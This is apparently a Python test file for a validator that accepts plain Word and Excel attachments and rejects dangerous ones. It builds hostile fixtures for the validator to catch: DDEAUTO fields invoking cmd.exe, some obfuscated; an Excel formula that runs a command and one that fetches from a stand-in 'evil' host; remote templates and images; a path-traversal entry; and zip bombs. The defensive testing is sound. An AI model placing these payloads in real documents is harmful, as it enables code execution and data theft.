"""Word and Excel files as attachments: plain ones are taken, not what runs, reaches out or carries a file."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable
from contextlib import suppress
from io import BytesIO

import docx
import openpyxl
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from data import office_documents
from data.attachments import clean_name, media_type
from data.importers.office.guard import Limits
from projects.attachments import DOCX, TYPES, XLSX
from projects.errors import BadValue
from tests.unit.data.test_attachment_files import PDF, picture

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
Parts = dict[str, bytes]


def word() -> bytes:
    out, document = BytesIO(), docx.Document()
    document.add_paragraph("评价报告")
    document.add_picture(BytesIO(picture("PNG")))
    document.save(out)
    return out.getvalue()


def excel() -> bytes:
    out, book = BytesIO(), openpyxl.Workbook()
    book.active.append(["床位", 40])
    book.save(out)
    return out.getvalue()


WORD, EXCEL = word(), excel()


def changed(content: bytes, change: Callable[[Parts], object]) -> bytes:
    """Return a document with its parts changed."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, text in parts.items():
            packed.writestr(name, text)
    return out.getvalue()


def replaced(part: str, old: bytes, new: bytes) -> Callable[[Parts], object]:
    def change(parts: Parts) -> None:
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new, 1)

    return change


def related(kind: str, target: str, mode: str = "External") -> Callable[[Parts], object]:
    """Return what adds a relationship to a Word document."""
    added = f'<Relationship Id="rX" Type="{RELS}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return replaced("word/_rels/document.xml.rels", b"</Relationships>", f"{added}</Relationships>".encode())


def added(name: str, content: bytes = b"x") -> Callable[[Parts], object]:
    return lambda parts: parts.update({name: content})


def field(code: str) -> Callable[[Parts], object]:
    text = f'<w:p><w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r></w:p></w:body>'
    return replaced("word/document.xml", b"</w:body>", text.encode())


def formula(text: str) -> Callable[[Parts], object]:
    cell = f'<row r="9"><c r="A9"><f>{text}</f></c></row></sheetData>'
    return replaced("xl/worksheets/sheet1.xml", b"</sheetData>", cell.encode())


def macro(parts: Parts) -> None:
    """What a .docm says of itself, whatever its name."""
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"


def only_a_script(parts: Parts) -> None:
    """An archive that is no document at all."""
    parts.clear()
    parts["a.js"] = b"x"


def test_plain_documents_are_taken_for_what_they_are() -> None:
    assert media_type(WORD) == DOCX and media_type(EXCEL) == XLSX
    out = BytesIO()
    book = xlsxwriter.Workbook(out)
    book.add_worksheet().write_url(0, 0, "https://www.example.cn/")
    book.close()
    assert media_type(out.getvalue()) == XLSX, "a link that somebody has to click"
    assert media_type(changed(WORD, related("hyperlink", "mailto:a@b.cn"))) == DOCX
    assert media_type(changed(WORD, field('HYPERLINK "https://a.cn/dde/import"'))) == DOCX
    assert media_type(changed(EXCEL, formula("SUM(A1:A2)&amp;&quot;|&quot;"))) == XLSX
    assert clean_name("报告.docm", DOCX) == "报告.docm.docx"


HOSTILE: dict[str, tuple[bytes, str]] = {
    "docm renamed": (changed(WORD, macro), "宏"),
    "macro part alone": (changed(WORD, added("word/vbaProject.bin")), "宏"),
    "activex": (changed(WORD, added("word/activeX/activeX1.xml")), "宏"),
    "control": (changed(WORD, related("control", "activeX1.xml", "Internal")), "宏"),
    "ribbon code": (changed(WORD, related("extensibility", "customUI.xml", "Internal")), "宏"),
    "dde": (changed(WORD, field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "宏"),
    "dde in entities": (changed(WORD, field("D&#68;EAUTO cmd")), "宏"),
    "dde in pieces": (changed(WORD, field("D<!-- x -->D<![CDATA[E]]>AUTO cmd")), "宏"),
    "dde behind another field": (
        changed(WORD, field('PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>DDEAUTO cmd')),
        "宏",
    ),
    "dde in an attribute": (
        changed(
            WORD,
            replaced("word/document.xml", b"</w:body>", b'<w:fldSimple w:instr=" &#x44;DE cmd"/></w:body>'),
        ),
        "宏",
    ),
    "formula that fetches": (changed(EXCEL, formula("_xlfn.WEBSERVICE(&quot;http://evil/&quot;)")), "宏"),
    "formula that runs": (changed(EXCEL, formula("cmd|'/c calc'!A0")), "宏"),
    "text under the name of a picture": (
        changed(
            WORD,
            replaced(
                "[Content_Types].xml",
                b"</Types>",
                b'<Default Extension="png" ContentType="application/vnd.x.header+xml"/></Types>',
            ),
        ),
        "夹带",
    ),
    "template elsewhere": (changed(WORD, related("attachedTemplate", "http://evil/x.dotm")), "外部"),
    "picture elsewhere": (changed(WORD, related("image", "http://evil/x.png")), "外部"),
    "share": (changed(WORD, related("hyperlink", "file:////evil/share")), "外部"),
    "script link": (changed(WORD, related("hyperlink", "javascript:alert(1)")), "外部"),
    "links of a sheet": (changed(WORD, related("externalLink", "x.xml", "Internal")), "外部"),
    "ole": (changed(WORD, related("oleObject", "x", "Internal")), "嵌入"),
    "embedded book": (changed(WORD, added("word/embeddings/book.xlsx")), "嵌入"),
    "web page inside": (changed(WORD, related("aFChunk", "x.html", "Internal")), "嵌入"),
    "program inside": (changed(WORD, added("word/media/run.exe")), "夹带"),
    "page inside": (changed(WORD, added("word/media/a.html")), "夹带"),
    "folder above": (changed(WORD, added("../evil.xml")), "夹带"),
    "entities": (
        changed(
            WORD,
            replaced("[Content_Types].xml", b"<Types", b'<!DOCTYPE x [<!ENTITY a "b">]><Types'),
        ),
        "打不开",
    ),
    "utf-16": (
        changed(WORD, lambda p: p.update({"_rels/.rels": p["_rels/.rels"].decode().encode("utf-16")})),
        "打不开",
    ),
    "no document": (changed(WORD, lambda p: p.pop("word/document.xml")), "Word 或 Excel"),
    "no types": (changed(WORD, lambda p: p.pop("[Content_Types].xml")), "打不开"),
    "archive": (changed(WORD, only_a_script), "夹带"),
    "behind something": (b"MZ" + WORD, "只能附"),
    "before something": (WORD + b"<script>alert(1)</script>", "夹带"),
    "pdf and document": (PDF + WORD, "PDF 不完整"),
    "cut in two": (WORD[: len(WORD) // 2], "打不开"),
    "password or old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "旧格式"),
}


@pytest.mark.parametrize(("content", "words"), HOSTILE.values(), ids=HOSTILE)
def test_what_runs_reaches_out_or_carries_a_file_is_refused_with_its_reason(
    content: bytes, words: str
) -> None:
    with pytest.raises(BadValue, match=words):
        media_type(content)


def test_a_document_that_unpacks_to_gigabytes_is_refused_before(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = changed(WORD, added("word/media/big.xml", b" " * 3_000_000))
    assert len(bomb) < 100_000
    monkeypatch.setattr(office_documents, "_LIMITS", Limits(unpacked_bytes=2_000_000))
    with pytest.raises(BadValue, match="打不开"):
        media_type(bomb)


def test_a_part_that_lies_about_its_size_is_refused() -> None:
    bomb = bytearray(changed(EXCEL, added("xl/media/a.xml", b"<a>" + b" " * 9000 + b"</a>")))
    at = bomb.rfind(b"PK\x01\x02")
    bomb[at + 24 : at + 28] = (10).to_bytes(4, "little")
    with pytest.raises(BadValue):
        media_type(bytes(bomb))


def test_parts_that_lie_over_one_another_are_refused() -> None:
    content = bytearray(EXCEL)
    last = content.rfind(b"PK\x01\x02")
    content[last + 42 : last + 46] = (0).to_bytes(4, "little")
    with pytest.raises(BadValue):
        media_type(bytes(content))


def test_damaged_documents_never_break_the_check() -> None:
    rng = random.Random(7)
    for content in (WORD, EXCEL):
        for _ in range(120):
            broken = bytearray(content)
            for _n in range(3):
                broken[rng.randrange(len(broken))] = rng.randrange(256)
            with suppress(BadValue):
                assert media_type(bytes(broken)) in TYPES


@given(st.binary(max_size=300))
def test_no_bytes_after_a_zips_beginning_break_the_check(tail: bytes) -> None:
    with pytest.raises(BadValue):
        media_type(office_documents.ZIP + tail)
